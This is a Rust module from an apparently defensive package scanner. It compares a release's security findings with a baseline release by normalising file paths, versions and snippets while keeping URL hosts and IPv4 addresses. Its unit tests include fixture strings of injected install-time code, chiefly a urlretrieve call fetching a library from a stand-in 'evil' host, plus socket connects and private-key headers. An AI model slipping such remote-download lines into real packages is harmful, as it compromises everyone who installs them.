//! Established behaviour: the comparison key a finding is matched by against the project's
//! baseline release, and the comparison itself.
//!
//! Owns: [`EvidenceKey`] (detector, member path with the release's own names normalised —
//! the sdist root, `*.dist-info`, `*.egg-info`, `*.data`, version strings —, indicator and
//! snippet with whitespace, quotes and digits normalised, URL hosts and IPv4 literals kept
//! verbatim) and [`compare`]: a finding is unchanged only when *every* piece of its evidence
//! has a key the baseline also has, and its evidence was not capped (an injection cannot
//! hide behind an old idiom in the same file, nor past the evidence cap).
//! Must not: choose the baseline (that is [`super::previous::baseline_file`]), fetch, or
//! decide (the policy's `established:` section lowers, the gate only remembers).

use crate::model::{Established, Evidence, Finding};
use std::collections::BTreeSet;

/// One piece of evidence as it would read in any release of the project.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct EvidenceKey {
    pub detector: String,
    pub path: String,
    pub indicator: Option<String>,
    pub snippet: Option<String>,
}

impl EvidenceKey {
    pub(crate) fn of(detector: &str, e: &Evidence) -> EvidenceKey {
        EvidenceKey {
            detector: detector.to_string(),
            path: member_path(&e.path),
            indicator: e.indicator.as_deref().map(text),
            snippet: e.snippet.as_deref().map(text),
        }
    }
}

/// The baseline release a file is compared with, and the history that qualified it
/// (times in RFC 3339; see [`Established::Compared`]).
#[derive(Debug, Clone)]
pub(crate) struct Baseline {
    pub version: String,
    pub filename: String,
    pub uploaded: String,
    pub first_upload: String,
    pub releases: usize,
}

/// Compare this file's findings with the baseline's: a detector is unchanged when it has
/// evidence, fewer pieces than the scanner's cap (so none was dropped), and every piece's
/// key is among the baseline's keys.
pub(crate) fn compare(b: Baseline, now: &[Finding], before: &[Finding]) -> Established {
    let old: BTreeSet<EvidenceKey> =
        before.iter().flat_map(|f| f.evidence.iter().map(move |e| EvidenceKey::of(&f.detector, e))).collect();
    let (mut unchanged, mut changed) = (Vec::new(), Vec::new());
    for f in now {
        let complete = !f.evidence.is_empty() && f.evidence.len() < crate::scan::findings::MAX_EVIDENCE;
        let all_old = f.evidence.iter().all(|e| old.contains(&EvidenceKey::of(&f.detector, e)));
        let into = if complete && all_old { &mut unchanged } else { &mut changed };
        if !into.contains(&f.detector) {
            into.push(f.detector.clone());
        }
    }
    Established::Compared {
        baseline_version: b.version,
        baseline_filename: b.filename,
        baseline_uploaded: b.uploaded,
        first_upload: b.first_upload,
        releases: b.releases,
        unchanged,
        changed,
    }
}

/// A member path with what changes from release to release by itself replaced: the
/// sdist's root directory (`pkg-1.2/`), `*.dist-info`, `*.egg-info` and `*.data`
/// directories (whatever their project spelling), and version strings in other names.
fn member_path(path: &str) -> String {
    let mut out = Vec::new();
    for (i, seg) in path.split('/').enumerate() {
        let lower = seg.to_ascii_lowercase();
        let named = if lower.ends_with(".dist-info") {
            Some("{dist-info}")
        } else if lower.ends_with(".egg-info") {
            Some("{egg-info}")
        } else if lower.ends_with(".data") && seg.contains('-') {
            Some("{data}")
        } else if i == 0 && path.contains('/') && is_release_dir(seg) {
            Some("{root}")
        } else {
            None
        };
        out.push(named.map_or_else(|| versions_out(seg), str::to_string));
    }
    out.join("/")
}

/// `name-1.2.3` (an sdist's root directory): a last `-` followed by a digit.
fn is_release_dir(seg: &str) -> bool {
    seg.rsplit_once('-').is_some_and(|(name, v)| !name.is_empty() && v.starts_with(|c: char| c.is_ascii_digit()))
}

/// Version-like runs (`1.2`, `2.0.1rc1`: dot-separated numbers, a letter suffix with its
/// number) as `{v}`.
fn versions_out(seg: &str) -> String {
    let chars: Vec<char> = seg.chars().collect();
    let digits = |from: usize| chars[from..].iter().take_while(|c| c.is_ascii_digit()).count();
    let mut out = String::with_capacity(seg.len());
    let mut i = 0;
    while i < chars.len() {
        if chars[i].is_ascii_digit() && (i == 0 || !chars[i - 1].is_ascii_alphanumeric()) {
            let (mut end, mut groups) = (i + digits(i), 1);
            while end + 1 < chars.len() && chars[end] == '.' && chars[end + 1].is_ascii_digit() {
                end += 1 + digits(end + 1);
                groups += 1;
            }
            let letters = chars[end..].iter().take_while(|c| c.is_ascii_alphabetic()).count();
            if letters > 0 && end + letters < chars.len() && chars[end + letters].is_ascii_digit() {
                end += letters + digits(end + letters);
            }
            if groups >= 2 {
                out.push_str("{v}");
                i = end;
                continue;
            }
        }
        out.push(chars[i]);
        i += 1;
    }
    out
}

/// A snippet or indicator with formatting and release numbers normalised: whitespace
/// removed, `'` read as `"`, digit runs read as `0` — except in a URL's host and in IPv4
/// literals, which are kept (a changed destination is new behaviour).
fn text(s: &str) -> String {
    let chars: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        // A URL's authority is kept verbatim (lowercased) up to the first / ? # quote or space.
        if c == ':' && chars.get(i + 1) == Some(&'/') && chars.get(i + 2) == Some(&'/') {
            out.push_str("://");
            i += 3;
            while i < chars.len() && !matches!(chars[i], '/' | '?' | '#' | '"' | '\'' | '`' | ')' | '\\') {
                if !chars[i].is_whitespace() {
                    out.push(chars[i].to_ascii_lowercase());
                }
                i += 1;
            }
            continue;
        }
        if c.is_ascii_digit() && (i == 0 || !chars[i - 1].is_ascii_digit()) {
            let end = i + chars[i..].iter().take_while(|c| c.is_ascii_digit() || **c == '.').count();
            let run: String = chars[i..end].iter().collect();
            let run = run.trim_end_matches('.');
            if is_ipv4(run) {
                out.push_str(run);
            } else {
                out.push_str(&run.split('.').map(|_| "0").collect::<Vec<_>>().join("."));
            }
            i += run.chars().count();
            continue;
        }
        match c {
            c if c.is_whitespace() => {}
            '\'' => out.push('"'),
            c => out.push(c),
        }
        i += 1;
    }
    out
}

fn is_ipv4(run: &str) -> bool {
    let parts: Vec<&str> = run.split('.').collect();
    parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|n| n <= 255))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Category, FileRole, Severity};

    fn finding(detector: &str, evidence: &[(&str, &str, Option<&str>)]) -> Finding {
        Finding {
            detector: detector.into(),
            title: detector.into(),
            category: Category::Network,
            severity: Severity::High,
            message: String::new(),
            evidence: evidence
                .iter()
                .enumerate()
                .map(|(n, (path, snippet, indicator))| Evidence {
                    path: (*path).into(),
                    line: Some(n as u32 + 1),
                    column: Some(1),
                    snippet: Some((*snippet).into()),
                    indicator: indicator.map(String::from),
                    role: FileRole::InstallTime,
                    severity: None,
                })
                .collect(),
        }
    }

    fn baseline() -> Baseline {
        Baseline {
            version: "1.0".into(),
            filename: "pkg-1.0.tar.gz".into(),
            uploaded: "2024-01-02T03:04:05Z".into(),
            first_upload: "2020-01-01T00:00:00Z".into(),
            releases: 12,
        }
    }

    #[test]
    fn a_finding_is_established_only_when_the_baseline_has_every_piece_of_its_evidence() {
        let dl = "network.downloads-file";
        let fetch = "urllib.request.urlretrieve('https://github.com/acme/pkg/releases/download/v1.0/lib.so', dst)";
        let fetch_next =
            "urllib.request.urlretrieve(\"https://github.com/acme/pkg/releases/download/v1.1/lib.so\",  dst)";
        let evil = "urllib.request.urlretrieve('https://evil.example.net/releases/download/v1.1/lib.so', dst)";
        let ip_old = "s.connect(('203.0.113.7', 443))";
        let ip_new = "s.connect(('198.51.100.9', 443))";
        let setup = |v: &str| format!("pkg-{v}/setup.py");
        type Case<'a> = (&'a str, Vec<Finding>, Vec<Finding>, bool);
        let cases: [Case; 10] = [
            (
                "same idiom, new version in the URL and the root directory, reformatted",
                vec![finding(dl, &[(&setup("1.1"), fetch_next, Some("urlretrieve"))])],
                vec![finding(dl, &[(&setup("1.0"), fetch, Some("urlretrieve"))])],
                true,
            ),
            (
                "injected new snippet next to the old idiom in the same file",
                vec![finding(
                    dl,
                    &[(&setup("1.1"), fetch_next, Some("urlretrieve")), (&setup("1.1"), evil, Some("urlretrieve"))],
                )],
                vec![finding(dl, &[(&setup("1.0"), fetch, Some("urlretrieve"))])],
                false,
            ),
            (
                "the old idiom's destination host changed",
                vec![finding(dl, &[(&setup("1.1"), evil, Some("urlretrieve"))])],
                vec![finding(dl, &[(&setup("1.0"), fetch, Some("urlretrieve"))])],
                false,
            ),
            (
                "an IPv4 literal changed (digits are not normalised in addresses)",
                vec![finding(dl, &[(&setup("1.1"), ip_new, None)])],
                vec![finding(dl, &[(&setup("1.0"), ip_old, None)])],
                false,
            ),
            (
                "same snippet in another file",
                vec![finding(dl, &[("pkg-1.1/pkg/__init__.py", fetch, Some("urlretrieve"))])],
                vec![finding(dl, &[(&setup("1.0"), fetch, Some("urlretrieve"))])],
                false,
            ),
            (
                "same path and snippet, another detector before",
                vec![finding(dl, &[(&setup("1.1"), fetch, Some("urlretrieve"))])],
                vec![finding("execution.subprocess", &[(&setup("1.0"), fetch, Some("urlretrieve"))])],
                false,
            ),
            (
                "renamed dist-info (project spelling and version)",
                vec![finding(
                    "secrets.private-key",
                    &[("Acme_Pkg-2.0.dist-info/RECORD", "-----BEGIN RSA…", Some("rsa"))],
                )],
                vec![finding(
                    "secrets.private-key",
                    &[("acme_pkg-1.9.dist-info/RECORD", "-----BEGIN RSA…", Some("rsa"))],
                )],
                true,
            ),
            (
                "test fixture under a versioned egg-info and data dir",
                vec![finding("secrets.private-key", &[("pkg-1.1.data/purelib/t/key.pem", "-----BEGIN", None)])],
                vec![finding("secrets.private-key", &[("pkg-1.0.data/purelib/t/key.pem", "-----BEGIN", None)])],
                true,
            ),
            ("nothing before", vec![finding(dl, &[(&setup("1.1"), fetch, Some("urlretrieve"))])], vec![], false),
            ("no evidence: nothing to compare", vec![finding(dl, &[])], vec![finding(dl, &[])], false),
        ];
        for (case, now, before, want) in cases {
            let got = compare(baseline(), &now, &before);
            assert_eq!(got.is_established(dl) || got.is_established("secrets.private-key"), want, "{case}: {got:?}");
        }
    }

    #[test]
    fn capped_evidence_is_never_established() {
        let dl = "network.downloads-file";
        let n = crate::scan::findings::MAX_EVIDENCE;
        let pieces: Vec<(String, String)> =
            (0..n).map(|i| (format!("pkg-1.0/m{i}.py"), format!("get(u{i})"))).collect();
        let ev: Vec<(&str, &str, Option<&str>)> = pieces.iter().map(|(p, s)| (p.as_str(), s.as_str(), None)).collect();
        let f = finding(dl, &ev);
        let got = compare(baseline(), std::slice::from_ref(&f), std::slice::from_ref(&f));
        assert!(!got.is_established(dl), "evidence at the cap may hide a new piece: {got:?}");
        let fewer = finding(dl, &ev[..n - 1]);
        let got = compare(baseline(), std::slice::from_ref(&fewer), std::slice::from_ref(&fewer));
        assert!(got.is_established(dl), "below the cap every piece is seen");
    }

    #[test]
    fn keys_normalise_what_a_release_changes_by_itself() {
        let cases = [
            ("sdist root", "pkg-1.0/setup.py", "{root}/setup.py"),
            ("dist-info", "Foo_Bar-2.0.1.dist-info/RECORD", "{dist-info}/RECORD"),
            ("egg-info", "foo-1.0/foo.egg-info/PKG-INFO", "{root}/{egg-info}/PKG-INFO"),
            ("version in a name", "vendor/lib-2.3.1/x.py", "vendor/lib-{v}/x.py"),
            ("no version", "pkg/module.py", "pkg/module.py"),
            ("single file", "setup-2.py", "setup-2.py"),
            ("pre-release", "libs/x-2.0.1rc1/a.py", "libs/x-{v}/a.py"),
        ];
        for (case, path, want) in cases {
            assert_eq!(member_path(path), want, "{case}");
        }
        let texts = [
            ("whitespace and quotes", "f( 'a',  b )", "f(\"a\",b)"),
            ("digits", "version = \"1.22.3rc1\"", "version=\"0.0.0rc0\""),
            (
                "URL host kept, path digits normalised",
                "get('https://Cdn7.Example.org/v2/x')",
                "get(\"https://cdn7.example.org/v0/x\")",
            ),
            ("IPv4 kept", "connect(('10.1.2.3', 80))", "connect((\"10.1.2.3\",0))"),
        ];
        for (case, input, want) in texts {
            assert_eq!(text(input), want, "{case}");
        }
    }
}
